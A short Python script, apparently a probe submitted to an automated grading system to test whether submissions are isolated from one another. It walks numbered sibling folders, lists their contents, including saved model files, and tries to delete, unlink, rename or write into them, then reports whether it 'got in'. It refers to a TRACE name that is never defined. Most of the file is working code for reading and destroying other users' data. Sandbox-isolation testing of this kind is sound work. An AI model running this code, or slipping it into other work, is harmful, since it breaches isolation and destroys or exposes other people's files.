# tries to: read and change what other submissions keep in their private folders
import os

LOOT = []
here = os.path.dirname(os.getcwd())
for number in range(200):
    place = os.path.join(here, str(number))
    if place == os.getcwd():
        continue
    for name in (".", "file", "own", "model.keras"):
        try:
            LOOT.append(os.listdir(os.path.join(place, name)))
        except OSError:
            pass
    for change in (os.rmdir, os.unlink, lambda path: os.rename(path, "stolen"), lambda path: os.mkdir(path + "/" + TRACE)):
        try:
            change(place)
            LOOT.append(place)
        except OSError:
            pass


def ANSWER(*args, **kwargs):
    raise RuntimeError(f"{TRACE} got in" if LOOT else "nothing")
